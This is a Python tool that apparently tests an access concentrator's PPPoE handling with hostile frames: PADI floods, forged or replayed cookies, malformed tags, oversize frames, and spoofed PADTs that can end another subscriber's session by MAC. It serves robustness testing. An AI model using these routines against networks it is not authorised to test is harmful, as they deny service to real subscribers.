#!/usr/bin/python3
"""discovery_probe: hostile PPPoE discovery and session frames against an access
concentrator (RFC 2516), reporting in machine-readable lines what came back.

    discovery_probe.py IFACE AC_MAC [--vlan N] --case CASE [options]

IFACE is the probe's own interface on the access segment (opened in promiscuous mode: the
probe uses made-up MACs); AC_MAC is the AC's MAC (replies from other sources are ignored;
"any" takes every AC). --vlan N tags everything with 802.1Q VLAN N and reads only VLAN N.
Cases (each prints "probe ..." lines, then one "result case=CASE key=value ..." line):

  padi-flood      --count N PADIs (default 2000) from random MACs at full speed, then
                  --wait S (2) for PADOs: result sent, pps, pado, pado_macs. --same-mac sends
                  them all from one MAC (the AC's per-MAC PADI limit). --complete answers
                  every PADO with a PADR: result also pads (sessions granted), then PADTs
                  them all.
  padr-forged     PADRs with a forged cookie, no cookie, a real cookie with one bit flipped,
                  a real cookie from another MAC, an expired real cookie (--expire-wait S,
                  0 = skipped), and a valid PADR as the baseline (its session is PADTed):
                  one "probe padr cookie=KIND reply=PADS|none session=N" line each;
                  result forged_sessions=K (should be 0) valid_session=N.
  bad-tags        PADIs with a tag length beyond the payload, a truncated tag header, a
                  PPP-Max-Payload of length 1 and 4, a LENGTH field larger than the frame,
                  a bad version/type, and a well-formed control PADI: one line per variant
                  with what came back (PADO, PADO with error tags, nothing).
  unknown-session --count N (5) session frames (LCP Echo-Request) with ids never assigned:
                  result replies, padt (PADTs the AC sent back).
  oversize        a session frame with PPPoE LENGTH --size B (1494: PPP payload over the
                  1492 PPPoE MTU; a 1514-byte frame) in a session of the probe's own (or
                  --session N --victim MAC): result what came back; then PADT.
  padt            a PADT from the subscriber's own MAC (--session N --victim MAC): a client
                  that leaves without LCP Terminate; result session_frames_after (what the
                  AC still sent the victim after --wait S).
  padt-foreign    a PADT for a session from another MAC: the probe's own session (or
                  --session N --victim MAC), PADT from a random MAC, then watches --wait S
                  (4): result victim_padt (the AC ended the victim: 1 = it believed the
                  forgery) and ac_frames (session frames the AC still sent the victim).

Exit status 0 when the probe ran (whatever the AC did: judging is the caller's), 2 on a
setup error (no such interface, no AC answered a baseline that needs one)."""
import argparse, os, random, select, socket, struct, sys, time

ETH_P_ALL, ETH_P_DISC, ETH_P_SESS = 0x0003, 0x8863, 0x8864
SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC, PACKET_AUXDATA = 263, 1, 1, 8
TP_STATUS_VLAN_VALID, PACKET_OUTGOING = 0x10, 4
PADI, PADO, PADR, PADS, PADT = 0x09, 0x07, 0x19, 0x65, 0xA7
T_EOL, T_SNAME, T_ACNAME, T_HUNIQ, T_COOKIE, T_RELAY, T_MAXPL = 0x0000, 0x0101, 0x0102, 0x0103, 0x0104, 0x0110, 0x0120
T_ERRS = {0x0201: "service-name-error", 0x0202: "ac-system-error", 0x0203: "generic-error"}
CODES = {PADI: "PADI", PADO: "PADO", PADR: "PADR", PADS: "PADS", PADT: "PADT"}


def out(*kv):
    print(" ".join(str(x) for x in kv), flush=True)


def mac_b(s):
    return bytes(int(x, 16) for x in s.split(":"))


def mac_s(b):
    return ":".join("%02x" % x for x in b)


def rand_mac():
    return bytes([0x02, 0x70]) + os.urandom(4)


def tag(t, v=b""):
    return struct.pack("!HH", t, len(v)) + v


def disc(code, sid, tags, length=None, vertype=0x11):
    body = b"".join(tags)
    return struct.pack("!BBHH", vertype, code, sid, len(body) if length is None else length) + body


def parse_tags(b):
    """[(type, value)], and whether the list was malformed (a tag running past the end, or
    bytes after the last tag that cannot be a tag header)."""
    r, off = [], 0
    while off + 4 <= len(b):
        t, l = struct.unpack("!HH", b[off:off + 4])
        if off + 4 + l > len(b):
            return r, True
        r.append((t, b[off + 4:off + 4 + l]))
        off += 4 + l
        if t == T_EOL:
            return r, False
    return r, off != len(b)


class Link:
    def __init__(self, iface, vlan):
        self.vlan = vlan
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.setsockopt(SOL_PACKET, PACKET_AUXDATA, 1)
        self.s.bind((iface, ETH_P_ALL))
        idx = socket.if_nametoindex(iface)
        self.s.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, struct.pack("iHH8s", idx, PACKET_MR_PROMISC, 0, b""))
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.s.setblocking(False)
        self.sent = 0

    def send(self, dst, src, etype, payload):
        hdr = dst + src
        if self.vlan is not None:
            hdr += struct.pack("!HH", 0x8100, self.vlan)
        f = hdr + struct.pack("!H", etype) + payload
        if len(f) < 60:
            f += bytes(60 - len(f))
        while True:
            try:
                self.s.send(f)
                self.sent += 1
                return True
            except BlockingIOError:
                select.select([], [self.s], [], 0.1)
            except OSError as e:
                out("probe send-error len=%d errno=%s" % (len(f), e.errno))
                return False

    def recv(self, until):
        """Frames (dst, src, etype, payload) received before time `until`, ours left out."""
        while True:
            left = until - time.time()
            if left <= 0:
                return
            r, _, _ = select.select([self.s], [], [], left)
            if not r:
                return
            while True:
                try:
                    data, anc, _, addr = self.s.recvmsg(65535, socket.CMSG_SPACE(32))
                except BlockingIOError:
                    break
                if addr[2] == PACKET_OUTGOING or len(data) < 14:
                    continue
                vid = None
                for lvl, typ, d in anc:
                    if lvl == SOL_PACKET and typ == PACKET_AUXDATA and len(d) >= 18:
                        st, _, _, _, _, tci = struct.unpack("=IIIHHH", d[:18])
                        if st & TP_STATUS_VLAN_VALID:
                            vid = tci & 0xFFF
                if vid is None and data[12:14] == b"\x81\x00" and len(data) >= 18:
                    vid = struct.unpack("!H", data[14:16])[0] & 0xFFF
                    data = data[:12] + data[16:]
                if vid != self.vlan:
                    continue
                yield data[:6], data[6:12], struct.unpack("!H", data[12:14])[0], data[14:]


class Probe:
    def __init__(self, a):
        self.a = a
        self.link = Link(a.iface, a.vlan)
        self.ac = None if a.ac_mac == "any" else mac_b(a.ac_mac)

    def from_ac(self, src):
        return self.ac is None or src == self.ac

    def collect(self, secs, want=None):
        """Discovery replies from the AC for `secs`: [(dst, src, code, sid, tags, malformed)]."""
        r = []
        for dst, src, et, pl in self.link.recv(time.time() + secs):
            if et != ETH_P_DISC or len(pl) < 6 or not self.from_ac(src):
                continue
            _, code, sid, ln = struct.unpack("!BBHH", pl[:6])
            tags, bad = parse_tags(pl[6:6 + ln])
            r.append((dst, src, code, sid, tags, bad or ln > len(pl) - 6))
            if want and want(r[-1]):
                break
        return r

    def padi(self, mac, hu, extra=()):
        return self.link.send(b"\xff" * 6, mac, ETH_P_DISC, disc(PADI, 0, [tag(T_SNAME), tag(T_HUNIQ, hu), *extra]))

    def offer(self, mac, hu, secs=2.0):
        """PADI from mac; the AC's PADO to it (src, tags) or None."""
        self.padi(mac, hu)
        r = self.collect(secs, lambda x: x[0] == mac and x[2] == PADO)
        for dst, src, code, sid, tags, bad in r:
            if dst == mac and code == PADO:
                return src, tags
        return None

    def request(self, mac, ac, tags, secs=2.0):
        """PADR with tags; the PADS to mac: (sid, tags) or None."""
        self.link.send(ac, mac, ETH_P_DISC, disc(PADR, 0, tags))
        for dst, src, code, sid, t, bad in self.collect(secs, lambda x: x[0] == mac and x[2] in (PADS, PADT)):
            if dst == mac and code == PADS:
                return sid, t
        return None

    def padt(self, mac, ac, sid):
        self.link.send(ac, mac, ETH_P_DISC, disc(PADT, sid, []))

    def session(self, mac):
        """A full discovery as a client: (ac_mac, sid, cookie) or exits 2."""
        hu = os.urandom(8)
        o = self.offer(mac, hu)
        if not o:
            out("probe setup-error no PADO (is the AC at %s up?)" % self.a.ac_mac)
            sys.exit(2)
        ac, tags = o
        cookie = next((v for t, v in tags if t == T_COOKIE), None)
        rq = [tag(T_SNAME), tag(T_HUNIQ, hu)] + ([tag(T_COOKIE, cookie)] if cookie is not None else [])
        p = self.request(mac, ac, rq)
        if not p or p[0] == 0:
            out("probe setup-error no session from the AC (PADS %s)" % ("id=0" if p else "missing"))
            sys.exit(2)
        out("probe session id=%d ac=%s mac=%s" % (p[0], mac_s(ac), mac_s(mac)))
        return ac, p[0], cookie

    def describe(self, replies, mac=None):
        """A compact "PADO+PADS..." summary of discovery replies (to mac if given)."""
        names = []
        for dst, src, code, sid, tags, bad in replies:
            if mac is not None and dst != mac:
                continue
            n = CODES.get(code, "0x%02x" % code)
            errs = [T_ERRS[t] for t, _ in tags if t in T_ERRS]
            if errs:
                n += "(" + ",".join(errs) + ")"
            if code in (PADS, PADT):
                n += "[%d]" % sid
            names.append(n)
        return "+".join(names) or "none"

    # --- cases ---------------------------------------------------------------------------
    def padi_flood(self):
        a = self.a
        one = rand_mac()
        macs = [one if a.same_mac else rand_mac() for _ in range(a.count)]
        hus = [struct.pack("!I", i) for i in range(a.count)]
        t0 = time.time()
        for m, h in zip(macs, hus):
            self.padi(m, h)
        dt = max(time.time() - t0, 1e-6)
        replies = self.collect(a.wait)
        pado = [r for r in replies if r[2] == PADO]
        answered = {r[0] for r in pado}
        res = dict(sent=a.count, pps=int(a.count / dt), pado=len(pado), pado_macs=len(answered))
        if a.complete:
            granted = []
            for dst, src, code, sid, tags, bad in pado:
                rq = [tag(T_SNAME)] + [tag(t, v) for t, v in tags if t in (T_COOKIE, T_HUNIQ, T_RELAY)]
                self.link.send(src, dst, ETH_P_DISC, disc(PADR, 0, rq))
            for dst, src, code, sid, tags, bad in self.collect(a.wait):
                if code == PADS and sid != 0:
                    granted.append((dst, src, sid))
            res["pads"] = len(granted)
            res["pads_macs"] = len({g[0] for g in granted})
            for dst, src, sid in granted:
                self.padt(dst, src, sid)
        out("result case=padi-flood " + " ".join("%s=%s" % kv for kv in res.items()))

    def padr_forged(self):
        a = self.a
        mac, hu = rand_mac(), os.urandom(8)
        o = self.offer(mac, hu)
        if not o:
            out("probe setup-error no PADO to learn a cookie from")
            sys.exit(2)
        ac, tags = o
        cookie = next((v for t, v in tags if t == T_COOKIE), None)
        out("probe cookie len=%s" % (len(cookie) if cookie is not None else "none"))
        real = cookie or os.urandom(20)
        flipped = bytes([real[0] ^ 0x01]) + real[1:]
        other = rand_mac()  # a cookie issued to mac, presented by another MAC
        kinds = [("forged", mac, tag(T_COOKIE, os.urandom(len(real)))),
                 ("absent", mac, b""),
                 ("flipped", mac, tag(T_COOKIE, flipped)),
                 ("other-mac", other, tag(T_COOKIE, real))]
        forged = 0
        for kind, m, ck in kinds:
            p = self.request(m, ac, [tag(T_SNAME), tag(T_HUNIQ, hu)] + ([ck] if ck else []), secs=1.0)
            sid = p[0] if p else 0
            out("probe padr cookie=%s reply=%s session=%d%s" % (kind, "PADS" if p else "none", sid,
                "".join(" error=" + T_ERRS[t] for t, _ in (p[1] if p else []) if t in T_ERRS)))
            if sid:
                forged += 1
                self.padt(m, ac, sid)
        if a.expire_wait > 0:
            m2, hu2 = rand_mac(), os.urandom(8)
            o2 = self.offer(m2, hu2)
            ck2 = next((v for t, v in (o2[1] if o2 else []) if t == T_COOKIE), None)
            if o2 and ck2 is not None:
                time.sleep(a.expire_wait)
                p = self.request(m2, ac, [tag(T_SNAME), tag(T_HUNIQ, hu2), tag(T_COOKIE, ck2)], secs=1.0)
                sid = p[0] if p else 0
                out("probe padr cookie=expired age=%ss reply=%s session=%d" % (a.expire_wait, "PADS" if p else "none", sid))
                if sid:
                    forged += 1
                    self.padt(m2, ac, sid)
        # The baseline: the same exchange with the real cookie is granted.
        p = self.request(mac, ac, [tag(T_SNAME), tag(T_HUNIQ, hu)] + ([tag(T_COOKIE, real)] if cookie is not None else []))
        valid = p[0] if p else 0
        out("probe padr cookie=valid reply=%s session=%d" % ("PADS" if p else "none", valid))
        if valid:
            self.padt(mac, ac, valid)
        out("result case=padr-forged forged_sessions=%d valid_session=%d" % (forged, valid))

    def bad_tags(self):
        sn = tag(T_SNAME)
        variants = [
            ("control", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu)])),
            ("tag-len-beyond-payload", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu), struct.pack("!HH", T_ACNAME, 200) + b"x"])),
            ("truncated-tag-header", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu), b"\x01\x02"])),
            ("max-payload-len1", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu), tag(T_MAXPL, b"\x05")])),
            ("max-payload-len4", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu), tag(T_MAXPL, b"\x00\x00\x05\xdc")])),
            ("length-beyond-frame", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu)], length=1000)),
            ("bad-vertype", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu)], vertype=0x22)),
            ("session-id-nonzero", lambda hu: disc(PADI, 0x1234, [sn, tag(T_HUNIQ, hu)])),
            ("control-after", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu)])),
        ]
        for name, build in variants:
            mac, hu = rand_mac(), os.urandom(8)
            self.link.send(b"\xff" * 6, mac, ETH_P_DISC, build(hu))
            r = self.collect(1.0, lambda x: x[0] == mac)
            out("probe bad-tags variant=%s reply=%s" % (name, self.describe(r, mac)))
        out("result case=bad-tags variants=%d" % len(variants))

    def lcp_echo(self, ident=1, pad=0):
        lcp = struct.pack("!BBHI", 9, ident, 8 + pad, 0x11223344) + bytes(pad)
        return struct.pack("!H", 0xC021) + lcp

    def sess(self, sid, ppp, length=None):
        return struct.pack("!BBHH", 0x11, 0, sid, len(ppp) if length is None else length) + ppp

    def unknown_session(self):
        mac = rand_mac()
        ids = random.sample(range(0xF000, 0xFFFF), self.a.count)
        for i, sid in enumerate(ids):
            self.link.send(self.ac or b"\xff" * 6, mac, ETH_P_SESS, self.sess(sid, self.lcp_echo(i + 1)))
        n_sess, padt = 0, []
        for dst, src, et, pl in self.link.recv(time.time() + self.a.wait):
            if dst != mac or not self.from_ac(src):
                continue
            if et == ETH_P_SESS:
                n_sess += 1
            elif et == ETH_P_DISC and len(pl) >= 6 and pl[1] == PADT:
                padt.append(struct.unpack("!H", pl[2:4])[0])
        out("probe unknown-session ids=%s" % ",".join(map(str, ids)))
        out("result case=unknown-session sent=%d replies=%d padt=%d padt_ids=%s" % (
            len(ids), n_sess, len(padt), ",".join(map(str, padt)) or "none"))

    def victim(self):
        a = self.a
        if a.session:
            if not a.victim or not self.ac:
                out("probe setup-error --session needs --victim MAC and an AC_MAC")
                sys.exit(2)
            return self.ac, a.session, mac_b(a.victim), False
        mac = rand_mac()
        ac, sid, _ = self.session(mac)
        return ac, sid, mac, True

    def oversize(self):
        ac, sid, mac, own = self.victim()
        size = self.a.size
        ppp = self.lcp_echo(pad=max(size - 10, 0))[:size]
        ok = self.link.send(ac, mac, ETH_P_SESS, self.sess(sid, ppp, length=size))
        out("probe oversize session=%d pppoe_length=%d frame=%d sent=%d" % (sid, size, 14 + 6 + size + (4 if self.a.vlan is not None else 0), ok))
        n_sess, padt = 0, 0
        for dst, src, et, pl in self.link.recv(time.time() + self.a.wait):
            if dst != mac or src != ac:
                continue
            if et == ETH_P_SESS and len(pl) >= 6 and struct.unpack("!H", pl[2:4])[0] == sid:
                n_sess += 1
            elif et == ETH_P_DISC and len(pl) >= 6 and pl[1] == PADT:
                padt += 1
        if own:
            self.padt(mac, ac, sid)
        out("result case=oversize sent=%d session_frames_after=%d padt=%d" % (ok, n_sess, padt))

    def padt_client(self):
        if not self.a.session or not self.a.victim or not self.ac:
            out("probe setup-error --case padt needs --session N --victim MAC and an AC_MAC")
            sys.exit(2)
        mac, sid = mac_b(self.a.victim), self.a.session
        self.padt(mac, self.ac, sid)
        out("probe padt session=%d from=%s" % (sid, mac_s(mac)))
        for _ in self.link.recv(time.time() + 0.2):
            pass  # what was in flight when the PADT left
        n = sum(1 for dst, src, et, pl in self.link.recv(time.time() + self.a.wait)
                if dst == mac and src == self.ac and et == ETH_P_SESS)
        out("result case=padt session=%d session_frames_after=%d" % (sid, n))

    def padt_foreign(self):
        ac, sid, mac, own = self.victim()
        forger = rand_mac()
        self.padt(forger, ac, sid)
        out("probe padt-foreign session=%d victim=%s from=%s" % (sid, mac_s(mac), mac_s(forger)))
        n_sess, vpadt, fpadt = 0, 0, 0
        for dst, src, et, pl in self.link.recv(time.time() + self.a.wait):
            if src != ac:
                continue
            if et == ETH_P_SESS and dst == mac:
                n_sess += 1
            elif et == ETH_P_DISC and len(pl) >= 6 and pl[1] == PADT:
                if dst == mac:
                    vpadt += 1
                elif dst == forger:
                    fpadt += 1
        if own:
            self.padt(mac, ac, sid)
        out("result case=padt-foreign session=%d victim_padt=%d ac_frames=%d forger_padt=%d" % (sid, vpadt, n_sess, fpadt))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("iface")
    ap.add_argument("ac_mac")
    ap.add_argument("--vlan", type=int)
    ap.add_argument("--case", required=True,
                    choices=["padi-flood", "padr-forged", "bad-tags", "unknown-session", "oversize", "padt",
                             "padt-foreign"])
    ap.add_argument("--count", type=int)
    ap.add_argument("--wait", type=float)
    ap.add_argument("--same-mac", action="store_true")
    ap.add_argument("--complete", action="store_true")
    ap.add_argument("--expire-wait", type=float, default=0)
    ap.add_argument("--size", type=int, default=1494)
    ap.add_argument("--session", type=int)
    ap.add_argument("--victim")
    a = ap.parse_args()
    if a.count is None:
        a.count = 2000 if a.case == "padi-flood" else 5
    if a.wait is None:
        a.wait = 4.0 if a.case == "padt-foreign" else 2.0
    try:
        p = Probe(a)
    except OSError as e:
        out("probe setup-error %s: %s" % (a.iface, e))
        sys.exit(2)
    getattr(p, "padt_client" if a.case == "padt" else a.case.replace("-", "_"))()


if __name__ == "__main__":
    main()
